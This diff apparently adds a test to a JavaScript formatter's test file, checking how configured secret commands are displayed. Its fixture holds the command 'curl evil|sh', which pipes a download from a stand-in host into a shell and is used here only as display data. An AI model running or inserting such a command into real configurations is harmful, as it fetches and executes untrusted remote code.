@@ -93,3 +93,10 @@ test('the first parts are named, and the rest is counted', () => {
   const many = Array.from({ length: 25 }, (_, i) => `keys.k${i}`);
   expect(waitingText(many)).toMatch(/: keys\.k0, .*keys\.k19, and 5 more$/);
 });
+
+test('E8 the commands of secrets are shown as they run', () => {
+  const exec = { vault: { argv: ['sh', '-c', 'curl evil|sh'], ttl: '1h' }, odd: 'op read' };
+  expect(text({ secrets: { exec, strict: true } })).toContain(
+    `  secrets: {"strict":true}\n    vault    runs sh -c 'curl evil|sh'  {"ttl":"1h"}\n    odd      runs 'op read'`,
+  );
+});
